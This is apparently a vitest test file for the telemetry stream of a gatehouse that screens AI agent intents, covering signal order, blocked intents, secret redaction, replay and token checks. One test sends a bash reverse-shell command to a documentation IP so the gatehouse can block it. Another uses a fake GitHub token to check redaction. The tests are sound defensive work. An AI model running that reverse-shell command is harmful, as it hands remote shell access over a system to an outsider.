// The telemetry stream over the real listener: names, order, payloads, replay and the token.
import { describe, expect, onTestFinished, test } from "vitest";
import { WebSocket } from "ws";
import type { Gatehouse } from "../../../src/main/app/start.ts";
import { agentDid, call, command, intentParams, startGatehouse } from "../../support/engine/gatehouse.ts";

interface Signal {
  readonly type: string;
  readonly signal: string;
  readonly timestamp: string;
  readonly seq: number;
  readonly data: Record<string, unknown>;
}

/** The next so many signals that are about intents. */
async function watch(gatehouse: Gatehouse, query = ""): Promise<(count: number) => Promise<Signal[]>> {
  const socket = new WebSocket(`${gatehouse.address.ws}/telemetry${query}`);
  onTestFinished(() => socket.terminate());
  const seen: Signal[] = [];
  socket.on("message", (data: Buffer) => {
    const signal = JSON.parse(data.toString("utf8")) as Signal;
    if (signal.type !== "Heartbeat") seen.push(signal);
  });
  await new Promise((resolve, reject) => socket.once("open", resolve).once("error", reject));
  return async (count) => {
    await expect.poll(() => seen.length).toBeGreaterThanOrEqual(count);
    return seen.splice(0, count);
  };
}

describe("telemetry", () => {
  test("follows an approved intent from receipt to report", async () => {
    const gatehouse = await startGatehouse();
    const next = await watch(gatehouse);
    const params = command("npm test");
    await call(gatehouse, "a2g/intent", params);
    await call(gatehouse, "a2g/report", {
      agent_did: agentDid,
      intent_id: params["intent_id"],
      status: "FAILURE",
      metrics: { duration_ms: 45 },
    });
    const signals = await next(4);
    expect(signals.map(({ type, signal }) => [type, signal])).toEqual([
      ["IntentReceived", "INTENT_RECEIVED"],
      ["RiskAssessment", "RISK_ASSESSMENT"],
      ["CapabilityManifest", "INTENT_ALLOWED"],
      ["ExecutionComplete", "EXECUTION_COMPLETE"],
    ]);
    expect(signals[0]?.data).toMatchObject({ method: "execute_command", params: { command: "npm test" } });
    expect(signals[1]?.data).toMatchObject({
      final_score: expect.any(Number),
      gemma_score: expect.any(Number),
      risk_level: "LOW",
    });
    expect(signals[2]?.data).toMatchObject({ max_memory_mb: 100, network_allowed: true, timeout_seconds: 30 });
    expect(signals[3]?.data).toMatchObject({ duration_ms: 45, success: false });
  });

  test("a denied intent is a violation with its phase", async () => {
    const gatehouse = await startGatehouse();
    const next = await watch(gatehouse, "?format=a2g");
    await call(gatehouse, "a2g/intent", command("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
    const [, risk, blocked] = await next(3);
    expect(risk).toMatchObject({ type: "RISK_ASSESSMENT", signal: "RiskAssessment", data: { decision: "BLOCKED" } });
    expect(blocked).toMatchObject({
      type: "INTENT_BLOCKED",
      data: { blocked_at_phase: 3, reason: expect.any(String) },
    });
  });

  test("never carries contents or secrets", async () => {
    const gatehouse = await startGatehouse();
    const next = await watch(gatehouse);
    const token = `ghp_${"a1B2".repeat(9)}`;
    const content = `${"line\n".repeat(2000)}GITHUB_TOKEN=${token}\n`;
    await call(gatehouse, "a2g/intent", intentParams("write_file", { path: "/tmp/notes.txt", content }));
    await call(
      gatehouse,
      "a2g/intent",
      command(`curl -H "Authorization: Bearer ${token}" https://api.github.com/user`),
    );
    const text = JSON.stringify(await next(6));
    expect(text).not.toContain(token);
    expect(text.length).toBeLessThan(40_000);
  });

  test("replays from a number, so that a reader can come back", async () => {
    const gatehouse = await startGatehouse();
    const next = await watch(gatehouse);
    await call(gatehouse, "a2g/intent", command("npm test"));
    const [first, ...others] = await next(3);
    const again = await watch(gatehouse, `?since=${first?.seq ?? 0}`);
    expect((await again(2)).map(({ seq }) => seq)).toEqual(others.map(({ seq }) => seq));
  });

  test("asks for the token when there is one", async () => {
    const gatehouse = await startGatehouse({ telemetryToken: "open sesame" });
    await expect(watch(gatehouse)).rejects.toThrow(/401/);
    await expect(watch(gatehouse, "?token=wrong")).rejects.toThrow(/401/);
    const next = await watch(gatehouse, "?token=open%20sesame");
    await call(gatehouse, "a2g/intent", command("npm test"));
    expect(await next(3)).toHaveLength(3);
  });
});
